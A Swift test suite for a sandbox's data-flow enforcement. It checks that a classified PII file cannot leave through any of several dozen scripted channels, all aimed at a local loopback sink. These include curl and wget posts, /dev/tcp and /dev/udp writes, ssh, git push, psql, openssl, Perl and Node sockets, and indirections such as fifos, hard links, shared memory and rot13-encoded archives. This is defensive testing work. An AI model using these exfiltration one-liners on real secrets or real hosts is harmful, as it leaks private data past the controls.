import Foundation
import Synchronization
import Testing

/// Somebody outside who takes whatever comes: TCP and UDP on one port of loopback, and a unix socket.
final class Sink: @unchecked Sendable {
    // @unchecked: `thread` is set before anybody else knows of this; the rest guards itself.
    let port: Int
    let path: String
    private let bytes = Mutex(Data())
    private let stop = Atomic<Bool>(false)
    private let tcp: Int32, udp: Int32, unix: Int32
    private var thread: Thread?

    init(_ world: World, address: UInt32 = 0x7f00_0001) throws {
        path = world.root + "/vault/sockets/sink-\(address & 0xff)"
        tcp = socket(AF_INET, Int32(SOCK_STREAM.rawValue) | O_CLOEXEC_, 0)
        udp = socket(AF_INET, Int32(SOCK_DGRAM.rawValue) | O_CLOEXEC_, 0)
        unix = socket(AF_UNIX, Int32(SOCK_STREAM.rawValue) | O_CLOEXEC_, 0)
        var a = sockaddr_in()
        a.sin_family = sa_family_t(AF_INET)
        a.sin_addr.s_addr = address.bigEndian
        var n = socklen_t(MemoryLayout<sockaddr_in>.size)
        func bound(_ fd: Int32) -> Bool {
            withUnsafeMutablePointer(to: &a) { p in
                p.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(fd, $0, n) == 0 && getsockname(fd, $0, &n) == 0 }
            }
        }
        guard bound(tcp), listen(tcp, 64) == 0, bound(udp) else { throw Trouble("sink: \(errno)") }
        port = Int(UInt16(bigEndian: a.sin_port))
        var u = sockaddr_un()
        u.sun_family = sa_family_t(AF_UNIX)
        withUnsafeMutableBytes(of: &u.sun_path) { $0.copyBytes(from: Array(path.utf8)) }
        let isBound = withUnsafePointer(to: &u) { p in
            p.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(unix, $0, socklen_t(MemoryLayout<sockaddr_un>.size)) == 0 }
        }
        guard isBound, listen(unix, 64) == 0 else { throw Trouble("sink: \(errno)") }
        chmod(path, 0o777)
        let thread = Thread { [self] in run() }
        self.thread = thread
        thread.start()
    }

    /// What has come. Whoever sent it has ended, so that all of it is in the sockets by now: everything there is taken first.
    func received() -> Data {
        let round = rounds.load(ordering: .acquiring)
        _ = eventually { rounds.load(ordering: .acquiring) > round + 1 }
        return bytes.withLock { $0 }
    }

    /// How often there was nothing to take.
    private let rounds = Atomic<Int>(0)

    func end() { stop.store(true, ordering: .releasing) }

    private func run() {
        var open: [Int32] = []
        var buffer = [UInt8](repeating: 0, count: 1 << 16)
        while !stop.load(ordering: .acquiring) {
            var all = ([tcp, unix, udp] + open).map { pollfd(fd: $0, events: Int16(POLLIN), revents: 0) }
            if poll(&all, nfds_t(all.count), 20) == 0 {
                rounds.add(1, ordering: .acquiringAndReleasing)
                continue
            }
            for p in all where p.revents != 0 {
                if p.fd == tcp || p.fd == unix {
                    let c = accept(p.fd, nil, nil)
                    if c >= 0 {
                        _ = fcntl(c, F_SETFD, FD_CLOEXEC)
                        open.append(c)
                    }
                    continue
                }
                let n = recv(p.fd, &buffer, buffer.count, Int32(MSG_DONTWAIT))
                if n > 0 { bytes.withLock { $0.append(contentsOf: buffer[..<n]) } }
                guard p.fd != udp else { continue }
                if n > 0 {
                    let answer = Array("HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n".utf8)
                    _ = send(p.fd, answer, answer.count, Int32(MSG_NOSIGNAL))
                    shutdown(p.fd, Int32(SHUT_WR))
                } else {
                    close(p.fd)
                    open.removeAll { $0 == p.fd }
                }
            }
        }
        for fd in open + [tcp, udp, unix] { close(fd) }
    }
}

private let O_CLOEXEC_: Int32 = 0o2000000

/// One way to bring a file out: a script, with `F` the file, `P` the sink's port, `U` its unix socket.
struct Way: Sendable, CustomTestStringConvertible {
    let name: String
    let script: String
    var needs: [String] = []
    /// What it says besides, before it has read: a greeting, an empty line, an archive with nothing in it.
    var talks = false
    var testDescription: String { name }

    static let all: [Way] = shell + python + others

    private static let send = "curl -s -m 10 --data-binary @- http://127.0.0.1:$P/"
    private static let shell: [Way] = [
        Way(name: "curl", script: "curl -s -m 10 --data-binary @$F http://127.0.0.1:$P/", needs: ["curl"]),
        Way(name: "curl-upload", script: "curl -s -m 10 -T $F http://127.0.0.1:$P/", needs: ["curl"]),
        Way(name: "cat-pipe-curl", script: "cat $F | \(send)", needs: ["curl"]),
        Way(name: "here-string", script: "\(send) <<< \"$(base64 < $F)\"", needs: ["curl"]),
        Way(name: "command-substitution", script: "curl -s -m 10 \"http://127.0.0.1:$P/?q=$(head -c 6 $F)\"", needs: ["curl"]),
        Way(name: "argument", script: "sh -c 'curl -s -m 10 -d \"$1\" http://127.0.0.1:$P/' sh \"$(cat $F)\"", needs: ["curl"]),
        Way(name: "variable", script: "export X=\"$(cat $F)\"; sh -c 'printf %s \"$X\" | \(send)'", needs: ["curl"]),
        Way(name: "process-substitution", script: "curl -s -m 10 --data-binary @<(cat $F) http://127.0.0.1:$P/", needs: ["curl"]),
        Way(
            name: "own-descriptor", script: "exec 3< $F; curl -s -m 10 --data-binary @/proc/self/fd/3 http://127.0.0.1:$P/", needs: ["curl"]
        ),
        Way(
            name: "unlinked-file", script: "exec 3<> t; rm t; cat $F >&3; curl -s -m 10 --data-binary @/dev/fd/3 http://127.0.0.1:$P/",
            needs: ["curl"]),
        Way(name: "dev-tcp", script: "cat $F > /dev/tcp/127.0.0.1/$P"),
        Way(name: "dev-tcp-first", script: "exec 3<> /dev/tcp/127.0.0.1/$P; cat $F >&3"),
        Way(name: "dev-tcp-builtin", script: "exec 3<> /dev/tcp/127.0.0.1/$P; read -r line < $F; echo \"$line\" >&3", talks: true),
        Way(name: "dev-udp", script: "cat $F > /dev/udp/127.0.0.1/$P"),
        Way(name: "tar", script: "tar cf - -C / ${F#/} > /dev/tcp/127.0.0.1/$P", needs: ["tar"], talks: true),
        Way(
            name: "archive-then-send", script: "tar czf a.tgz -C / ${F#/}; mv a.tgz b; cat b > /dev/tcp/127.0.0.1/$P",
            needs: ["tar", "gzip"]),
        Way(name: "gzip", script: "gzip -c $F | base64 | tr A-Za-z N-ZA-Mn-za-m > /dev/tcp/127.0.0.1/$P", needs: ["gzip"]),
        Way(name: "copied", script: "cp $F c; cp c d; cat d > /dev/tcp/127.0.0.1/$P"),
        Way(name: "renamed", script: "mv $F c; cat c > /dev/tcp/127.0.0.1/$P"),
        Way(name: "hard-link", script: "ln $F c; cat c > /dev/tcp/127.0.0.1/$P"),
        Way(name: "symlink", script: "ln -s $F c; cat c > /dev/tcp/127.0.0.1/$P"),
        Way(name: "folder-moved", script: "mv ${F%/*} moved; cat moved/* > /dev/tcp/127.0.0.1/$P"),
        Way(name: "dd", script: "dd if=$F of=c 2> /dev/null; dd if=c 2> /dev/null | cat > /dev/tcp/127.0.0.1/$P"),
        Way(name: "xargs", script: "xargs -a $F -I{} sh -c 'echo {} | \(send)'", needs: ["curl"]),
        Way(name: "sed-in-place", script: "echo x > c; sed -i \"r $F\" c; cat c > /dev/tcp/127.0.0.1/$P"),
        Way(
            name: "fifo-before",
            script: "mkfifo p; (exec 4<> p; read -r l <&4; echo \"$l\" > /dev/tcp/127.0.0.1/$P) & sh -c 'cat $F > p'; wait"),
        Way(
            name: "fifo-connected-before",
            script:
                "mkfifo p; (exec 3> /dev/tcp/127.0.0.1/$P; : > ready; timeout 5 cat < p >&3) & while ! [ -e ready ]; do :; done; cat $F > p; wait"
        ),
        Way(name: "coprocess", script: "coproc R { read -r l; echo \"$l\" > /dev/tcp/127.0.0.1/$P; }; cat $F >&${R[1]}; wait"),
        Way(
            name: "daemon",
            script:
                "setsid bash -c 'for i in {1..2000}; do if [ -s spool ]; then cat spool > /dev/tcp/127.0.0.1/$P; break; fi; sleep 0.01; done' & cat $F > spool; wait"
        ),
        Way(name: "terminal", script: "script -qc \"cat $F\" /dev/null | cat > /dev/tcp/127.0.0.1/$P", needs: ["script"], talks: true),
    ]

    private static let others: [Way] = [
        Way(name: "wget", script: "wget -q -T 10 -t 1 -O - --post-file=$F http://127.0.0.1:$P/", needs: ["wget"]),
        Way(
            name: "ssh", script: "tar cf - -C / ${F#/} | ssh -F none -o ConnectTimeout=5 -o StrictHostKeyChecking=no -p $P x@127.0.0.1 cat",
            needs: ["ssh", "tar"], talks: true),
        Way(
            name: "git-push",
            script:
                "git init -q r && cd r && cp $F f && git add f && git -c user.name=n -c user.email=e commit -qm m && git push -q git://127.0.0.1:$P/r HEAD:m",
            needs: ["git"]),
        Way(
            name: "psql",
            script:
                "psql \"host=127.0.0.1 port=$P user=u dbname=d sslmode=disable gssencmode=disable connect_timeout=5\" -c \"INSERT INTO t VALUES ('$(cat $F)')\"",
            needs: ["psql"]),
        Way(name: "openssl", script: "openssl s_client -quiet -connect 127.0.0.1:$P < $F", needs: ["openssl"]),
        Way(
            name: "perl",
            script:
                "perl -MIO::Socket::INET -e 'open F, $ENV{F} or die; my $s = IO::Socket::INET->new(\"127.0.0.1:$ENV{P}\") or die; print $s <F>'",
            needs: ["perl"]),
        Way(
            name: "perl-shared-memory",
            script:
                "perl -MIO::Socket::INET -e 'my $id = shmget(0, 4096, 0600) // die; if (!fork) { open F, $ENV{F} or die; shmwrite($id, scalar(<F>), 0, 64) or die; exit } wait; my $b; shmread($id, $b, 0, 64) or die; shmctl($id, 0, 0); my $s = IO::Socket::INET->new(\"127.0.0.1:$ENV{P}\") or die; print $s $b'",
            needs: ["perl"]),
        Way(
            name: "perl-message-queue",
            script:
                "perl -MIO::Socket::INET -e 'my $id = msgget(0, 0600) // die; if (!fork) { open F, $ENV{F} or die; msgsnd($id, pack(\"l! a*\", 1, scalar(<F>)), 0) or die; exit } my $b; msgrcv($id, $b, 4096, 0, 0) // die; msgctl($id, 0, 0); my $s = IO::Socket::INET->new(\"127.0.0.1:$ENV{P}\") or die; print $s $b'",
            needs: ["perl"]),
        Way(
            name: "node",
            script:
                "node -e 'const d = require(\"fs\").readFileSync(process.env.F); require(\"net\").connect(+process.env.P, \"127.0.0.1\").end(d)'",
            needs: ["node"]),
    ]

    private static let python: [Way] = [
        "socket", "connected-first", "datagram", "dns-name", "unix-socket", "relay-tcp", "relay-unix", "memfd", "descriptor-passed",
        "descriptor-in-flight", "socketpair", "queue", "subprocess", "shared-memory", "shared-file", "connection-passed",
        "environment-of-other",
        "relay-abstract", "pipe-between-siblings",
    ].map { Way(name: "python-\($0)", script: "/usr/bin/python3 $T/ways.py \($0)", needs: ["python3"]) }
}

extension EndToEnd {
    /// What carries a class of data reaches nobody who is not cleared, by whatever way.
    @Suite(.serialized, .enabled(if: Built.exists(Built.sandbox))) struct CarriesTests {
        private struct Place {
            let world: World
            let sink, cleared: Sink
            let profile: String
            var classified: String { world.root + "/data/pii/people.csv" }
            var open: String { world.root + "/open/people.csv" }

            init(_ account: Account) throws {
                world = try World(account)
                sink = try Sink(world)
                cleared = try Sink(world, address: 0x7f00_0002)
                for folder in ["data", "data/pii", "open"] {
                    mkdir("\(world.root)/\(folder)", 0o755)
                    if account == .ordinary { chown("\(world.root)/\(folder)", Account.uid, Account.uid) }
                }
                profile = try world.profile(
                    "carries",
                    """
                    mode: enforce
                    files: { default: allow }
                    exec: { default: allow }
                    network: { default: allow }
                    data: { pii: { files: ["\(world.root)/data/pii/**"] } }
                    rules:
                      - { name: pii-stays-home, intent: net.egress, when: { carries: pii, host_not: ["127.0.0.2"] }, decide: deny, reason: "No." }
                    """)
                for file in [classified, open] {
                    try "SECRET,alice@example.com\n".write(toFile: file, atomically: false, encoding: .utf8)
                    if account == .ordinary { chown(file, Account.uid, Account.uid) }
                }
            }

            func run(_ script: String, file: String, sink: Sink? = nil, within seconds: Double = 120) throws -> Outcome {
                let to = sink ?? self.sink
                let variables = ["F=\(file)", "P=\(to.port)", "U=\(to.path)", "T=\(Built.tools)"]
                return try world.sandboxed(
                    ["env"] + variables + ["bash", "-c", script], profile: profile, within: seconds)
            }

            func end() {
                sink.end()
                cleared.end()
            }
        }

        @Test(arguments: Way.all, Account.all) func isStopped(way: Way, account: Account) throws {
            guard way.needs.allSatisfy({ Built.installed($0) }) else { return }
            let place = try Place(account)
            defer { place.end() }
            let outcome = try place.run(way.script, file: place.classified)
            let received = place.sink.received()
            #expect(way.talks ? received.range(of: Data("SECRET".utf8)) == nil : received.isEmpty, "\(received) \(outcome)")
            let denied = try place.world.events("--decision", "deny")
            #expect(denied.contains { $0.rules.first == "pii-stays-home" }, "\(denied) \(outcome)")
        }

        /// The same with a file that carries nothing.
        @Test(arguments: Way.all) func goesOn(way: Way) throws {
            guard way.needs.allSatisfy({ Built.installed($0) }) else { return }
            let place = try Place(.own)
            defer { place.end() }
            let outcome = try place.run(way.script, file: place.open)
            #expect(!place.sink.received().isEmpty, "\(outcome)")
            let denied = try place.world.events("--decision", "deny")
            #expect(denied.isEmpty, "\(denied) \(outcome)")
        }

        /// Why: from the file to the process that was stopped.
        @Test(arguments: Account.all) func chain(account: Account) throws {
            let place = try Place(account)
            defer { place.end() }
            _ = try place.run("cp $F c; gzip -c c > d; zcat d | curl -s --data-binary @- http://127.0.0.1:$P/", file: place.classified)
            let stopped = try #require(try place.world.events("--decision", "deny").first { $0.rules.first == "pii-stays-home" })
            let why = try place.world.native([Built.sandbox, "lineage", "--why-carries", "pid:\(stopped.pid)@last"])
            let steps = why.out.split(separator: "\n").map(String.init)
            #expect(why.code == 0 && steps.first?.contains("pii") == true, "\(why)")
            for part in ["people.csv", "bin/cp (", "work/c`", "gzip (", "work/d`", "pipe", "curl ("] {
                #expect(steps.contains { $0.contains(part) }, "\(part) \(why)")
            }
            let file = try place.world.native([Built.sandbox, "lineage", "--why-carries", place.world.work + "/d"])
            #expect(file.out.contains("people.csv") && file.out.contains("gzip ("), "\(file)")
        }

        /// Copied and named again, and read by a session that begins later.
        @Test(
            arguments: Account.all, ["cp $F kept", "mv $F kept", "ln $F kept", "gzip -c $F > other; mv other kept", "cat < $F | tee kept"])
        func inALaterSession(account: Account, how: String) throws {
            let place = try Place(account)
            defer { place.end() }
            let first = try place.run(how, file: place.classified)
            #expect(first.code == 0, "\(first)")
            let second = try place.run("mv kept renamed; cat renamed > /dev/tcp/127.0.0.1/$P", file: place.open)
            #expect(place.sink.received().isEmpty, "\(second)")
            let denied = try place.world.events("--decision", "deny")
            #expect(denied.count == 1 && denied[0].rules.first == "pii-stays-home", "\(denied) \(second)")
            // What is put in its place is another file.
            let third = try place.run("rm renamed; cp $F renamed; cat renamed > /dev/tcp/127.0.0.1/$P", file: place.open)
            #expect(!place.sink.received().isEmpty, "\(third)")
        }

        /// What stands beside classified data, or talks to who may have it, goes on. `C` is the cleared sink's port.
        static let innocent = [
            "cat $F > /dev/tcp/127.0.0.2/$C", "curl -s -m 10 --data-binary @$F http://127.0.0.2:$C/",
            "wc -l < $F > n; cat n > /dev/tcp/127.0.0.2/$C",
            "cat $F | wc -l; echo hello > /dev/tcp/127.0.0.1/$P", "wc -l $F; echo hello > /dev/tcp/127.0.0.1/$P",
            "gzip -c $F > kept; echo hello > /dev/tcp/127.0.0.1/$P", "cp $F kept & echo hello > /dev/tcp/127.0.0.1/$P; wait",
            "sort $F | uniq | tail -1; date > d; cat d > /dev/tcp/127.0.0.1/$P",
            "ls -l ${F%/*}; stat $F; test -r $F; echo hello > /dev/tcp/127.0.0.1/$P",
            "cmp $F $F && echo hello > /dev/tcp/127.0.0.1/$P", "grep -q SECRET $F && echo hello > /dev/tcp/127.0.0.1/$P",
            "(cat $F; cat $F) > kept; cat $G > /dev/tcp/127.0.0.1/$P",
            "for i in 1 2 3 4 5; do cat $F | cat | cat | wc -c; done; cat $G > /dev/tcp/127.0.0.1/$P",
            "tar cf a.tar -C / ${F#/}; tar cf b.tar -C / ${G#/}; cat b.tar > /dev/tcp/127.0.0.1/$P",
            "git init -q r && cd r && cp $G f && git add f && git -c user.name=n -c user.email=e commit -qm m; wc -l $F; git push -q git://127.0.0.1:$P/r HEAD:m; true",
            "printf 'all: x\\nx: ; cat $F > x\\n' > Makefile; make -s; cat $G > /dev/tcp/127.0.0.1/$P",
            "/usr/bin/python3 -c 'import subprocess; subprocess.run([\"wc\", \"-l\", \"'$F'\"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)'; cat $G > /dev/tcp/127.0.0.1/$P",
            "mkfifo p; cat p > kept & cat $F > p; wait; cat $G > /dev/tcp/127.0.0.1/$P",
            "cp $F kept; rm kept; cp $G kept; cat kept > /dev/tcp/127.0.0.1/$P",
            "sed -n 1p $F > kept; sleep 0 | cat $G > /dev/tcp/127.0.0.1/$P",
        ]

        @Test(arguments: innocent) func isNotStopped(script: String) throws {
            let place = try Place(.own)
            defer { place.end() }
            let outcome = try place.run("G=\(place.open); C=\(place.cleared.port)\n" + script, file: place.classified)
            #expect(!place.sink.received().isEmpty || !place.cleared.received().isEmpty, "\(outcome)")
            let denied = try place.world.events("--decision", "deny")
            #expect(denied.isEmpty, "\(denied) \(outcome)")
        }

        /// What a file holds, where a profile says to look.
        @Test(arguments: Account.all) func byContent(account: Account) throws {
            let place = try Place(account)
            defer { place.end() }
            let profile = try place.world.profile(
                "content",
                """
                mode: enforce
                files: { default: allow }
                exec: { default: allow }
                network: { default: allow }
                data: { cards: { content: { in: ["${workspace}/inbox/**"], card_number: 1, email: 3 } } }
                rules: [{ name: cards-stay, intent: net.egress, when: { carries: cards }, decide: deny }]
                """)
            let send = "> /dev/tcp/127.0.0.1/\(place.sink.port)"
            let script = """
                mkdir inbox; echo 'pay 4111 1111 1111 1111 now' > inbox/a; echo 'pay 4111 1111 1111 1112 now' > inbox/b
                cat inbox/b \(send); cat inbox/a \(send); cp inbox/a c; mv inbox/a d; cat c \(send); cat d \(send)
                """
            let outcome = try place.world.sandboxed(["bash", "-c", script], profile: profile)
            #expect(place.sink.received() == Data("pay 4111 1111 1111 1112 now\n".utf8), "\(outcome)")
            #expect(try place.world.events("--decision", "deny").filter { $0.rules.first == "cards-stay" }.count == 3, "\(outcome)")
            let why = try place.world.native([Built.sandbox, "lineage", "--why-carries", place.world.work + "/c"])
            #expect(why.out.contains("1 card_number") && !why.out.contains("4111"), "\(why)")
        }

        /// A program that takes the class out of what it reads, as long as it is that program and nothing is put into it.
        @Test(arguments: Account.all) func released(account: Account) throws {
            let place = try Place(account)
            defer { place.end() }
            let root = place.world.root
            try FileManager.default.copyItem(atPath: "/usr/bin/dd", toPath: root + "/bin/mask")
            let sum = try place.world.native(["sha256sum", root + "/bin/mask"]).out.prefix(64)
            for (hash, passes) in [(String(sum), true), (String(repeating: "0", count: 64), false)] {
                let profile = try place.world.profile(
                    "releasing",
                    """
                    mode: enforce
                    files: { default: allow, deny: [], read: ["\(root)/bin/**"], write: ["\(root)/work/**", "\(root)/vault/**", "\(root)/data/**", "/dev/**"] }
                    exec: { default: allow }
                    network: { default: allow }
                    data: { pii: { files: ["\(root)/data/pii/**"] } }
                    releases: [{ program: "\(root)/bin/mask", classes: [pii], sha256: "\(hash)" }]
                    rules: [{ name: pii-stays-home, intent: net.egress, when: { carries: pii }, decide: deny }]
                    """.replacingOccurrences(
                        of: "default: allow, deny: [], read: [",
                        with: "default: deny, read: [\"/usr/**\", \"/etc/**\", \"/lib*/**\", \"/proc/**\", \"/tmp/**\", \"/bin/**\", "))
                let mask = "env -i PATH=$PATH \(root)/bin/mask if=\(place.classified) of=masked status=none"
                let send = "cat masked > /dev/tcp/127.0.0.1/\(place.sink.port)"
                let before = place.sink.received().count
                let outcome = try place.world.sandboxed(["bash", "-c", "rm -f masked; \(mask); \(send)"], profile: profile)
                #expect((place.sink.received().count > before) == passes, "\(outcome)")
                let preloaded = mask.replacingOccurrences(of: "PATH=$PATH", with: "PATH=$PATH LD_BIND_NOW=1")
                let stopped = try place.world.sandboxed(["bash", "-c", "rm -f masked; \(preloaded); \(send)"], profile: profile)
                #expect(place.sink.received().count == before + (passes ? 25 : 0), "\(stopped)")
            }
        }
    }
}
